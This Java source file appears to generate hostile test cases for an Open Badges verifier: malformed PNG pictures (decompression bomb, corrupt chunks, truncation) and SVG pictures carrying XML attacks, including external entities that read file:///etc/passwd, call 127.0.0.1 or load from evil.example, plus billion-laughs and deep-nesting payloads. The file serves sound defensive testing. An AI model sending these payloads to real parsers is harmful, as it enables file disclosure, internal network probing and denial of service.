package dev.cairn.cli.hostile;

import static dev.cairn.cli.hostile.HostileKind.PICTURE;
import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_8;

import java.io.ByteArrayOutputStream;
import java.nio.ByteBuffer;
import java.util.Arrays;
import java.util.zip.CRC32;
import java.util.zip.Deflater;

/** PNG and SVG pictures with what an attacker puts into them. */
final class MadePictures {
  private static final String CREDENTIAL = Made.signed(Made.JCS).toString();

  private final CaseWriter out = new CaseWriter();

  static String file() {
    MadePictures made = new MadePictures();
    made.inPng();
    made.inSvg();
    return made.out.file();
  }

  private void png(String id, String threat, byte[] picture, String expect) {
    out.bytes("png-" + id, PICTURE, threat, picture, expect);
  }

  private void svg(String id, String threat, String picture, String expect) {
    out.text("svg-" + id, PICTURE, threat, picture, expect);
  }

  private void inPng() {
    byte[] chunk = itxt(0, CREDENTIAL.getBytes(UTF_8));
    png(
        "two-credentials",
        "Two credentials lie in one picture.",
        png(chunk, chunk),
        "baking.several");
    png(
        "bomb",
        "A compressed credential swells without end.",
        png(itxt(1, deflate(new byte[5 << 20]))),
        "baking.credential-size");
    byte[] body = deflate(CREDENTIAL.getBytes(UTF_8));
    png(
        "compression-cut",
        "The compressed credential is cut off.",
        png(itxt(1, Arrays.copyOf(body, 9))),
        "baking.png-compression");
    png(
        "compression-more",
        "Bytes follow the compressed credential.",
        png(itxt(1, Arrays.copyOf(body, body.length + 3))),
        "baking.png-compression");
    png(
        "compression-none",
        "What is said to be compressed is not.",
        png(itxt(1, CREDENTIAL.getBytes(UTF_8))),
        "baking.png-compression");
    byte[] large = png(chunk);
    large[8] = 0x7f;
    png(
        "chunk-large",
        "A chunk says it is larger than everything.",
        large,
        "baking.png-chunk-size");
    byte[] negative = png(chunk);
    negative[8] = (byte) 0xff;
    png("chunk-negative", "A chunk's length is negative.", negative, "baking.png-chunk-size");
    byte[] wrong = png(chunk);
    wrong[wrong.length - 20] ^= 1;
    png("checksum", "A chunk's checksum is wrong.", wrong, "baking.png-checksum");
    byte[] header = png();
    header[12] = 'i';
    png("header", "The picture does not begin with its header.", header, "baking.png-checksum");
    for (int length : new int[] {8, 33, 41, 56}) {
      png(
          "cut-" + length,
          "The picture is cut off after " + length + " bytes.",
          Arrays.copyOf(png(chunk), length),
          "baking.png-truncated");
    }
    png("none", "There is no credential in the picture.", png(), "baking.none");
    String[] data = {"\0", "\0\0", "\0\0\0", "\0\0\0en", "\0\2\0\0\0{}", "\0\1\1\0\0{}"};
    for (int i = 0; i < data.length; i++) {
      png(
          "text-form-" + (i + 1),
          "The text chunk is not formed as it must be.",
          png(chunk("iTXt", ("openbadgecredential" + data[i]).getBytes(ISO_8859_1))),
          "baking.png-itxt");
    }
    png(
        "no-json",
        "What lies in the picture is no credential.",
        png(itxt(0, "hello".getBytes(UTF_8))),
        "json.syntax");
    png(
        "unsigned",
        "The credential in the picture has no proof.",
        png(itxt(0, Made.badge().toString().getBytes(UTF_8))),
        "proof.none");
    png(
        "changed",
        "The credential in the picture was changed.",
        png(itxt(0, CREDENTIAL.replace("Dry stone walls", "Castles").getBytes(UTF_8))),
        "proof.signature");
    png("nothing", "No bytes at all.", new byte[0], "baking.form");
    png(
        "html",
        "A web page is called a picture.",
        "<html></html>".getBytes(UTF_8),
        "baking.svg-root");
    png(
        "gif",
        "A picture of a form that carries nothing.",
        "GIF89a".getBytes(UTF_8),
        "baking.form");
  }

  private void inSvg() {
    String element = element(CREDENTIAL);
    svg(
        "two-credentials",
        "Two credentials lie in one picture.",
        picture(element + "<g>" + element + "</g>"),
        "baking.several");
    svg(
        "verify-and-content",
        "A token and a credential lie in one element.",
        picture(element.replace("v3p0\">", "v3p0\" verify=\"eyJ.e30.c2ln\">")),
        "baking.several");
    svg(
        "other-namespace",
        "A second credential hides in another namespace.",
        picture(
            (element + element.replace("/v3p0", "/v9"))
                .replace("o:", "openbadges:")
                .replace("xmlns:o=", "xmlns:openbadges=")),
        "baking.several");
    String head = "<svg xmlns=\"http://www.w3.org/2000/svg\">&e;</svg>";
    svg(
        "entity",
        "An entity is declared.",
        "<!DOCTYPE svg [<!ENTITY e \"xxx\">]>" + head,
        "baking.svg-doctype");
    svg(
        "entity-file",
        "An entity reads a file of the verifier.",
        "<!DOCTYPE svg [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>" + head,
        "baking.svg-doctype");
    svg(
        "entity-net",
        "An entity calls an address inside the verifier's net.",
        "<!DOCTYPE svg [<!ENTITY e SYSTEM \"http://127.0.0.1/\">]>" + head,
        "baking.svg-doctype");
    svg(
        "entity-laughs",
        "Entities of entities swell without end.",
        "<!DOCTYPE svg [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;\"><!ENTITY e \"&b;&b;\">]>" + head,
        "baking.svg-doctype");
    svg(
        "entity-parameter",
        "A parameter entity loads declarations.",
        "<!DOCTYPE svg [<!ENTITY % p SYSTEM \"http://evil.example/p\"> %p;]>" + head,
        "baking.svg-doctype");
    svg(
        "entity-undeclared",
        "An entity that nobody declared.",
        picture("<g>&e;</g>" + element),
        "baking.svg-syntax");
    svg(
        "entity-inside",
        "An entity stands for the credential.",
        picture("<o:credential xmlns:o=\"https://purl.imsglobal.org/ob/v3p0\">&e;</o:credential>"),
        "baking.svg-syntax");
    svg(
        "markup-inside",
        "Markup stands inside the credential.",
        picture(element("x]]><g/><![CDATA[")),
        "baking.svg-content");
    out.parts(
        "svg-depth",
        PICTURE,
        "Groups in groups without end.",
        "baking.svg-depth",
        "<svg xmlns=\"http://www.w3.org/2000/svg\">",
        1,
        "<g>",
        100_000);
    svg("root", "The picture has no namespace.", "<svg/>", "baking.svg-root");
    svg(
        "encoding", "Another encoding is claimed.",
        "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><svg/>", "baking.encoding");
    svg("cut", "The picture is cut off.", picture(element).substring(0, 300), "baking.svg-syntax");
    svg("none", "There is no credential in the picture.", picture(""), "baking.none");
    svg(
        "unsigned",
        "The credential in the picture has no proof.",
        picture(element(Made.badge().toString())),
        "proof.none");
    svg(
        "changed",
        "The credential in the picture was changed.",
        picture(element.replace("Dry stone walls", "Castles")),
        "proof.signature");
    out.bytes(
        "svg-not-utf8",
        PICTURE,
        "Bytes that are no UTF-8.",
        (picture("").replace("<g/>", "<g/>\u00c3")).getBytes(ISO_8859_1),
        "baking.encoding");
  }

  private static byte[] chunk(String type, byte[] data) {
    ByteBuffer chunk = ByteBuffer.allocate(data.length + 12);
    chunk.putInt(data.length).put(type.getBytes(ISO_8859_1)).put(data);
    CRC32 crc = new CRC32();
    crc.update(chunk.array(), 4, data.length + 4);
    return chunk.putInt((int) crc.getValue()).array();
  }

  private static byte[] png(byte[]... between) {
    ByteArrayOutputStream picture = new ByteArrayOutputStream();
    picture.writeBytes(new byte[] {(byte) 0x89, 'P', 'N', 'G', 13, 10, 26, 10});
    picture.writeBytes(chunk("IHDR", new byte[] {0, 0, 0, 1, 0, 0, 0, 1, 8, 0, 0, 0, 0}));
    picture.writeBytes(chunk("IDAT", deflate(new byte[] {0, 0})));
    for (byte[] b : between) {
      picture.writeBytes(b);
    }
    picture.writeBytes(chunk("IEND", new byte[0]));
    return picture.toByteArray();
  }

  private static byte[] itxt(int flag, byte[] body) {
    ByteArrayOutputStream data = new ByteArrayOutputStream();
    data.writeBytes("openbadgecredential".getBytes(ISO_8859_1));
    data.writeBytes(new byte[] {0, (byte) flag, 0, 'e', 'n', 0, 0});
    data.writeBytes(body);
    return chunk("iTXt", data.toByteArray());
  }

  private static byte[] deflate(byte[] data) {
    Deflater deflater = new Deflater(9);
    deflater.setInput(data);
    deflater.finish();
    ByteArrayOutputStream packed = new ByteArrayOutputStream();
    byte[] buffer = new byte[8192];
    while (!deflater.finished()) {
      packed.write(buffer, 0, deflater.deflate(buffer));
    }
    deflater.end();
    return packed.toByteArray();
  }

  private static String picture(String inside) {
    return "<svg xmlns=\"http://www.w3.org/2000/svg\">" + inside + "<g/></svg>";
  }

  private static String element(String credential) {
    return "<o:credential xmlns:o=\"https://purl.imsglobal.org/ob/v3p0\"><![CDATA["
        + credential
        + "]]></o:credential>";
  }
}
